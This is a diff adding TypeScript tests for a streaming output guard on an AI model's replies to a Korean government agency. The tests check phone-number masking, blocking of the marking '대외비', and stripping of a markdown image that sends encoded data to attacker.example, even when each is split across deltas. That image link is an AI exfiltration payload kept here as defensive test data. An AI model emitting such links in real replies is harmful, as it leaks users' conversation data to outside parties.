@@ -1,0 +1,62 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { defaultGuardChecks } from '../default-checks.js';
+import { defaultGuardPolicy } from '../guard-policy.js';
+import { createOutputStreamGuard, safeCut, type GuardedStreamPart } from './output-stream-guard.js';
+
+const checks = defaultGuardChecks(defaultGuardPolicy);
+
+async function stream(deltas: string[], zone: 'internal' | 'external'): Promise<GuardedStreamPart[]> {
+  const guard = createOutputStreamGuard({ checks, zone });
+  const parts: GuardedStreamPart[] = [];
+  for (const delta of deltas) parts.push(...(await guard.push(delta)));
+  parts.push(...(await guard.end()));
+  return parts;
+}
+
+const textOf = (parts: GuardedStreamPart[]) => parts.map((part) => (part.type === 'text-delta' ? part.text : '')).join('');
+
+const sample = '민원 처리 결과를 안내드립니다. 담당 부서는 디지털정부국이며 처리 기간은 7일입니다. 문의는 담당자 연락처 010-1234-5678 로 해 주시기 바랍니다. 감사합니다.';
+
+test('a phone number split at every position is masked whole, outside the agency', async () => {
+  for (let split = 1; split < sample.length; split++) {
+    const parts = await stream([sample.slice(0, split), sample.slice(split)], 'external');
+    const text = textOf(parts);
+    assert.ok(!/\d{4}-\d{4}/.test(text) && !text.includes('5678'), `split ${split}: ${text}`);
+    assert.ok(text.includes('[전화번호]'), `split ${split}: ${text}`);
+    assert.ok(parts.every((part) => part.type === 'text-delta'));
+  }
+});
+
+test('character-by-character deltas give the same text as one delta', async () => {
+  const whole = textOf(await stream([sample], 'external'));
+  assert.equal(textOf(await stream([...sample], 'external')), whole);
+  assert.equal(textOf(await stream([...sample], 'internal')), sample);
+});
+
+test('a marking split across deltas ends an external stream with an error, at every split', async () => {
+  const marked = `${sample} 이 내용은 대외비 자료에 근거합니다. 추가 설명은 없습니다.`;
+  const at = marked.indexOf('대외비');
+  for (let split = at - 2; split <= at + 3; split++) {
+    const parts = await stream([marked.slice(0, split), marked.slice(split)], 'external');
+    const last = parts.at(-1)!;
+    assert.equal(last.type, 'error', `split ${split}`);
+    assert.ok(!textOf(parts).includes('대외'), `split ${split}: released part of the marking`);
+  }
+});
+
+test('an exfiltration image split across deltas never reaches the client', async () => {
+  const answer = `요약입니다. ![](https://attacker.example/p?q=%EB%8C%80%ED%99%94) 끝입니다. ${'부연 설명입니다. '.repeat(8)}`;
+  for (let split = 1; split < answer.length; split += 3) {
+    const text = textOf(await stream([answer.slice(0, split), answer.slice(split)], 'internal'));
+    assert.ok(!text.includes('attacker.example/p'), `split ${split}: ${text}`);
+  }
+});
+
+test('safeCut cuts at whitespace before the window and never inside a finding', () => {
+  const text = 'aaaa bbbb cccc dddd';
+  assert.equal(safeCut(text, 4, []), 15);
+  assert.equal(safeCut(text, 5, []), 10);
+  assert.equal(safeCut(text, 5, [{ start: 5, end: 15 }]), 5);
+  assert.equal(safeCut('short', 10, []), 0);
+});
